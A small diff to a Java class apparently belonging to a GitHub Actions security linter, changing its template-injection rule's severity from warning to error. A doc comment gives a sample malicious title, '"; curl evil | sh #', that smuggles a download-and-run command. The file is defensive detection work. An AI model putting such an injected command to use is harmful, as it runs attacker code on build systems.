@@ -21,7 +21,7 @@ import java.util.Optional;
  * title such as {@code "; curl evil | sh #} runs as code.
  */
 @Rule(id = "template-injection", summary = "untrusted contexts are not expanded into run scripts or github-script code",
-        severity = Severity.WARNING, category = "security")
+        severity = Severity.ERROR, category = "security")
 @Audit(severity = Audit.Level.HIGH, confidence = Audit.Confidence.HIGH, fixable = true)
 public final class TemplateInjectionAudit extends AuditRule {
     /** One untrusted expansion: the scalar, the expression and the untrusted path it reads. */
